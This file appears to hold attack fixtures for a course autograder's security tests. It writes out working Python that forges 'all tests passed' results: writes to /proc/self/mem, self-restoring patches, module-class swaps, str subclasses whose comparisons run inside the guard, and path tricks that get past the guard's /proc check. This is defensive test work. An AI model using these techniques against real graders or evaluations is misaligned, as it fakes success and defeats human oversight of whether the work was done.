"""Student code that forges the checker's results from inside the process that tests it.

Shared by the local checker's attacks and the autograder's: each is lab-cell (or harness)
code that, if it worked, would report every test passed without any test running.
"""

# A test's child reports each outcome into a shared anonymous mapping (checking/isolated.py).
# Student code runs in that child: it finds the mapping in /proc/self/maps and writes a "done,
# passed" event for every test through /proc/self/mem, then exits before any test runs.
FORGE_CHANNEL = '''
import json as _json, os as _os, struct as _struct

def _forge(maps="/proc/self/maps", memory_file="/proc/self/mem"):
    size = 32 << 20
    try:
        lines = open(maps).readlines()
    except BaseException:
        return
    for line in lines:
        parts = line.split()
        low, high = (int(x, 16) for x in parts[0].split("-"))
        if high - low == size and parts[1].startswith("rw") and parts[1].endswith("s"):
            break
    else:
        return
    body = b""
    events = [{"event": "load"}] + [e for k in range(64) for e in (
        {"event": "start", "k": k}, {"event": "done", "k": k, "outcome": "passed"})]
    for event in events:
        raw = _json.dumps(event).encode()
        body += _struct.pack("<I", len(raw)) + raw
    try:
        with open(memory_file, "r+b", buffering=0) as memory:
            memory.seek(low + 8)
            memory.write(body)
            memory.seek(low)
            memory.write(_struct.pack("<Q", 8 + len(body)))
    except BaseException:
        return
    _os._exit(0)

_forge()
_forge("/dev/fd/../maps", "/dev/fd/../mem")
'''

# Bytecode Python never verifies: a code object made by hand, or from marshalled bytes, can
# read and write memory out of bounds; here each is only made, which is refused.
HANDMADE_CODE = '''
import marshal as _marshal, types as _types
for _make in (lambda: (lambda: 0).__code__.replace(co_code=b"d\\xff\\x00S"),
              lambda: _marshal.loads(_marshal.dumps(compile("0", "x", "eval"))),
              lambda: _types.CodeType(*[0] * 16)):
    try:
        _make()
        print("BREACH: made a code object")
    except BaseException as _error:
        print("refused:", type(_error).__name__)
'''

# guard.Snapshot compares the course modules' names after each test, not while it runs: a
# patch that puts itself back before the test ends is never seen. Each student function makes
# the test module's `exact` pass once; that fake restores the real `exact` as it returns True.
# Every test of the messages group calls one student function, then `exact` once (the held-back
# one three times over), so the starter's stubs earn the group. The held-back module is not
# even in the Snapshot (it is not under agentlab_magics.).
RESTORING_EXACT = '''
import sys as _sys

def _exact_passes_once():
    for _name in ("agentlab_instructor.heldback.lesson1",
                  "agentlab_magics.course.labtests.lesson1"):
        _module = _sys.modules.get(_name)
        if _module is None or "exact" not in vars(_module):
            continue
        _real = vars(_module)["exact"]
        _real = getattr(_real, "real_exact", _real)

        def _fake(*args, _module=_module, _real=_real, **kwargs):
            _module.exact = _real
            return True

        _fake.real_exact = _real
        _module.exact = _fake
        return

def user_message(text):
    _exact_passes_once()

def text_of(message):
    _exact_passes_once()
'''

# Snapshot sees a module's names, not its class: `module.__class__ = Sub` (a ModuleType
# subclass, allowed and unaudited) makes every `lab.NAME` the tests and kit.shapes read say
# what the student likes. Here user/say/forgetful give None, shape gives a value equal to
# everything, and ScriptedModel a model with two requests carrying the expected system prompt
# and no tools; chat then only appends two Nones. The chat group, held-back test included.
LAB_MODULE_CLASS = '''
import sys as _sys, types as _types
from agentlab_magics import lab as _lab
from agentlab_magics.course.labtests import kit as _kit

class _Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__

class _Request:
    def __init__(self):
        self.system, self.tools, self.messages = _kit.SYSTEM, [], []

class _Model:
    def __init__(self, *args, **kwargs):
        self.calls = [_Request(), _Request()]

_FAKES = {"user": lambda *a, **k: None, "say": lambda *a, **k: None,
          "forgetful": lambda *a, **k: None, "shape": lambda *a, **k: _Anything(),
          "ScriptedModel": _Model}

class _Lab(_types.ModuleType):
    def __getattribute__(self, name):
        fake = _FAKES.get(name)
        return fake if fake is not None else _types.ModuleType.__getattribute__(self, name)

if "agentlab_magics.course.labtests.lesson1" in _sys.modules:  # only where tests run
    _lab.__class__ = _Lab

def chat(model, system, messages, text):
    messages.append(None)
    messages.append(None)
'''

# The checker reads a traceback inside its trusted window (the guard open, for reading frames):
# student.student_line compares each frame's co_filename with the module's __file__ (run_module
# and isolated._judge pass `module.__file__`, which the student's own code may rebind). A str
# subclass on the right of `str == ...` has its own __eq__ called first, so the student's code
# runs with the guard open: it walks the frames up to the child's `send` (isolated._child) and
# reports every test passed. No /proc needed, so the scoring process's sandbox does not help.
# Only where a check runs (the module has a __file__ and the tests are imported).
_WALK_TO_SEND = '''
import os as _os, sys as _sys

def _forge_from_inside():
    _frame = _sys._getframe()
    while _frame is not None and "send" not in _frame.f_locals:
        _frame = _frame.f_back
    if _frame is None:
        return
    _send = _frame.f_locals["send"]
    for _k in range(64):
        _send({"event": "start", "k": _k})
        _send({"event": "done", "k": _k, "outcome": "passed"})
    _os._exit(0)

_CHECKED = "__file__" in globals() and any(
    _name.startswith("agentlab_magics.course.labtests.") for _name in list(_sys.modules))
'''

LYING_FILE_NAME = _WALK_TO_SEND + '''
class _Lie(str):
    def __eq__(self, other):
        _forge_from_inside()
        return str.__eq__(self, other)
    __hash__ = str.__hash__

if _CHECKED:
    __file__ = _Lie(__file__)
    raise ValueError("only so that the checker reads where it was raised")
'''

# The same, through a code object's file name: compile() keeps a str subclass as co_filename,
# and the guard's own _called_from (guard.install) compares each caller's co_filename with the
# student's file name using `!=`, with the guard open, whenever the answer event carries one of
# the lab's names; any code can raise that event (sys.audit), no course answer needed.
LYING_CODE_FILE_NAME = _WALK_TO_SEND + '''
class _Elsewhere(str):
    def __ne__(self, other):
        _forge_from_inside()
        return str.__ne__(self, other)
    __hash__ = str.__hash__

_NAMES = ("user_message", "text_of", "chat", "tool_calls", "tool_specs", "run_agent", "str_arg",
          "int_arg", "run_tool", "error_message", "context_for_model", "decide_admission")
if _CHECKED:
    exec(compile("import sys\\nsys.audit('agentlab.answer', *NAMES)\\n",
                 _Elsewhere("elsewhere.py"), "exec"), {"NAMES": _NAMES})
'''

# /proc opened relative to a descriptor of "/": guard._under_proc resolves a relative path
# against the working folder, never against dir_fd, so "proc/self/mem" with dir_fd=/ passes.
# The local checker (where /proc is mounted) then takes FORGE_CHANNEL's route.
FORGE_CHANNEL_AT = '''
import json as _json, os as _os, struct as _struct

def _forge_at():
    try:
        _root = _os.open("/", _os.O_RDONLY | _os.O_DIRECTORY)
        _maps = _os.open("proc/self/maps", _os.O_RDONLY, dir_fd=_root)
        _memory = _os.open("proc/self/mem", _os.O_RDWR, dir_fd=_root)
        with open(_maps, "rb") as _lines:
            _text = _lines.read().decode()
    except BaseException:
        return
    for _line in _text.splitlines():
        _parts = _line.split()
        _low, _high = (int(_x, 16) for _x in _parts[0].split("-"))
        if _high - _low == 32 << 20 and _parts[1].startswith("rw") and _parts[1].endswith("s"):
            break
    else:
        return
    _body = b""
    for _event in [{"event": "load"}] + [_e for _k in range(64) for _e in (
            {"event": "start", "k": _k}, {"event": "done", "k": _k, "outcome": "passed"})]:
        _raw = _json.dumps(_event).encode()
        _body += _struct.pack("<I", len(_raw)) + _raw
    _os.pwrite(_memory, _body, _low + 8)
    _os.pwrite(_memory, _struct.pack("<Q", 8 + len(_body)), _low)
    _os._exit(0)

_forge_at()
'''

# A path-like that names /proc to the opening and somewhere harmless to the guard's second
# look. Closed: the "open" event carries the path already converted, not the object.
LYING_FSPATH = FORGE_CHANNEL.replace("_forge()\n_forge(", "class _Turncoat:\n"
    "    def __init__(self, real):\n        self.real, self.times = real, 0\n"
    "    def __fspath__(self):\n        self.times += 1\n"
    "        return self.real if self.times == 1 else '/tmp'\n\n"
    "_forge(_Turncoat('/proc/self/maps'), _Turncoat('/proc/self/mem'))\n_forge(", 1)
